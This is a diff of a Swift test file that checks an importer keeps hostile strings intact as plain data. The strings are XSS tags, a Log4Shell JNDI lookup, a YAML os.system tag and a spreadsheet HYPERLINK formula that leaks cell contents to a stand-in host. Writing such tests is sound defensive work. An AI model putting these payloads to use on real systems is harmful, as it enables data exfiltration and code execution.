@@ -111,18 +111,19 @@ import Testing
         let tip = try #require(bundle.records(in: "cybertips").first)
         #expect(tip["provider"] == .string("\"><script>document.title='PWNED'</script>"))
         let files = bundle.records(in: "cybertip_files")
-        #expect(files.map(\.id) == ["f-1", "null"])
+        #expect(files.map(\.id) == ["900000777-f-1", "900000777-null"])
         let texts = bundle.records(in: "cybertips").flatMap { $0.fields.compactMap(\.stringValue) }
             + files.flatMap { $0.fields.compactMap(\.stringValue) }
         for expected in ["{{#case}}{{{caption}}}{{/case}} {case.id} ${jndi:ldap://leak.example.invalid/a}",
                          "- &anchor *alias !!python/object:os.system [x]: {a: b} # not a comment",
-                         "=HYPERLINK(\"http://leak.example.invalid/?\"&A1,\"click\")", "true",
+                         "true",
                          "line one\nline two: with: colons\n  indented \"quoted\" 'single' \\backslash\n---\n..."] {
             #expect(texts.contains(expected), "missing or altered: \(expected.debugDescription)")
         }
         let notes = try #require(tip["notes"]?.stringValue)
         #expect(notes.contains("<svg onload=alert(1)> @SUM(1+1) | > %YAML"))
         #expect(notes.contains("<img src=x onerror=alert(1)>"))
+        #expect(notes.contains("email: =HYPERLINK(\"http://leak.example.invalid/?\"&A1,\"click\")"))
     }
 
     @Test("'readiness import cybertip' exits 2 on hostile XML with a located error and leaves the bundle unchanged",
